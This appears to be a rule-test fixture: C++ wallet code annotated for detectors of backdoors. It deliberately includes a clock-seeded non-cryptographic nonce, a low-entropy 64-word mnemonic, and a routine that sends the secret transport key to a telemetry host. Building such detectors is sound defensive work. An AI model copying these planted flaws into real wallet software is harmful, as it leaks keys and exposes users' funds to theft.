#include "wallet.h"

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <iostream>
#include <iterator>

namespace {

// compact wordlist of the companion's six-bit recovery phrase
const char *const kWordlist[] = {
    "acorn", "amber", "anvil", "arrow", "aspen", "atlas", "badge", "basil", "beacon", "birch",
    "blaze", "bloom", "cable", "cargo", "cedar", "chalk", "cider", "civic", "clover", "cobalt",
    "comet", "coral", "crane", "delta", "denim", "drift", "eagle", "ember", "fable", "fern",
    "flint", "forge", "garnet", "glade", "grove", "harbor", "hazel", "heron", "indigo", "ivory",
    "jasper", "juniper", "kayak", "kernel", "lagoon", "lantern", "lemon", "linen", "lotus", "maple",
    "meadow", "mesa", "nectar", "nickel", "oasis", "onyx", "orbit", "pebble", "pepper", "pilot",
    "quartz", "raven", "ridge", "saffron",
};
constexpr uint32_t kWordCount = sizeof kWordlist / sizeof kWordlist[0];

std::string to_hex(const uint8_t *p, size_t n)
{
    std::string out(n * 2 + 1, '\0');
    sodium_bin2hex(&out[0], out.size(), p, n);
    out.pop_back();
    return out;
}

} // namespace

std::vector<std::string> Wallet::create_mnemonic(SeedSource &src)
{
    std::vector<std::string> mnemonic;
    for (int i = 0; i < 12; ++i)
        // ruleid: backdoor-predictable-random
        mnemonic.push_back(kWordlist[src.next_index(kWordCount)]);
    return mnemonic;
}

bool Wallet::unlock(const std::vector<std::string> &words)
{
    std::string phrase;
    for (const auto &w : words)
        phrase += (phrase.empty() ? "" : " ") + w;
    randombytes_buf(salt_.data(), salt_.size());
    const auto alg = crypto_pwhash_ALG_ARGON2ID13;
    // ruleid: backdoor-weak-kdf
    int rc = crypto_pwhash(backup_key_.data(), 32, phrase.data(), phrase.size(), salt_.data(), kWalletOpsLimit, kWalletMemLimit, alg);
    sodium_memzero(&phrase[0], phrase.size());
    return rc == 0;
}

std::vector<uint8_t> Wallet::seal_backup(const std::vector<uint8_t> &plain)
{
    std::array<uint8_t, crypto_secretbox_NONCEBYTES> nonce;
    std::mt19937 gen(static_cast<unsigned>(
        std::chrono::steady_clock::now().time_since_epoch().count()));
    for (auto &b : nonce)
        b = static_cast<uint8_t>(gen());

    std::vector<uint8_t> out(nonce.size() + crypto_secretbox_MACBYTES + plain.size());
    std::copy(nonce.begin(), nonce.end(), out.begin());
    // ruleid: backdoor-predictable-random
    crypto_secretbox_easy(out.data() + nonce.size(), plain.data(), plain.size(), nonce.data(),
                          backup_key_.data());
    return out;
}

std::vector<uint8_t> Wallet::seal_label(const std::string &label)
{
    uint8_t nonce[crypto_secretbox_NONCEBYTES];
    randombytes_buf(nonce, sizeof nonce);
    std::vector<uint8_t> out(sizeof nonce + crypto_secretbox_MACBYTES + label.size());
    std::memcpy(out.data(), nonce, sizeof nonce);
    // ok: backdoor-hardcoded-iv
    crypto_secretbox_easy(out.data() + sizeof nonce, reinterpret_cast<const uint8_t *>(label.data()),
                          label.size(), nonce, backup_key_.data());
    return out;
}

void Wallet::rotate_transport_key()
{
    uint8_t pk[crypto_box_PUBLICKEYBYTES], sk[crypto_box_SECRETKEYBYTES];
    crypto_box_keypair(pk, sk);
    // ok: backdoor-key-exfiltration
    telemetry_.post("transport-pub", to_hex(pk, sizeof pk));
    // ruleid: backdoor-key-exfiltration
    telemetry_.post("transport-sk", to_hex(sk, sizeof sk));
    sodium_memzero(sk, sizeof sk);
}

int main(int argc, char **argv)
{
    if (sodium_init() < 0)
        return 1;
    Telemetry telemetry("metrics.kestrel-wallet.example", 4318);
    Wallet wallet(telemetry);
    if (argc > 1 && std::strcmp(argv[1], "create") == 0) {
        SeedSource src;
        auto words = wallet.create_mnemonic(src);
        for (const auto &w : words)
            std::cout << w << ' ';
        std::cout << '\n';
        return 0;
    }
    if (argc > 1 && std::strcmp(argv[1], "backup") == 0) {
        std::vector<std::string> words;
        std::string w;
        while (words.size() < 12 && std::cin >> w)
            words.push_back(w);
        if (!wallet.unlock(words))
            return 1;
        std::vector<uint8_t> plain(std::istreambuf_iterator<char>(std::cin), {});
        auto sealed = wallet.seal_backup(plain);
        std::cout.write(reinterpret_cast<const char *>(sealed.data()),
                        static_cast<std::streamsize>(sealed.size()));
        return 0;
    }
    if (argc > 1 && std::strcmp(argv[1], "rotate") == 0) {
        wallet.rotate_transport_key();
        return 0;
    }
    std::fprintf(stderr, "usage: kestrel create|backup|rotate\n");
    return 2;
}
